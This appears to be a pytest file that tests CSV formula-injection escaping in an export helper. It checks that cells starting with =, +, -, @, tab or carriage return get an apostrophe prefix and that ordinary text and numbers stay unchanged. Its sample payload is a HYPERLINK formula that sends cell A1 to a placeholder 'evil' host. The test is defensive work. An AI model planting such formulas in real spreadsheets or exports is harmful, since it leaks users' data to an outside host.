"""Rows as text: a cell of CSV is no formula of a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from serve.operator import rows


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_behind_an_apostrophe(begin: str) -> None:
    cell = f'{begin}HYPERLINK("http://evil/"&A1)'
    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name"], [{"name": cell}]), newline="")))
    assert row == [f"'{cell}"]


@pytest.mark.parametrize("cell", ["acme", "a=b", "-0.000000001", "-12", "+3.50", "17.3456", ""])
def test_plain_text_and_numbers_stay_as_they_are(cell: str) -> None:
    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name", "n"], [{"name": cell, "n": -5}]))))
    assert row == [cell, "-5"]
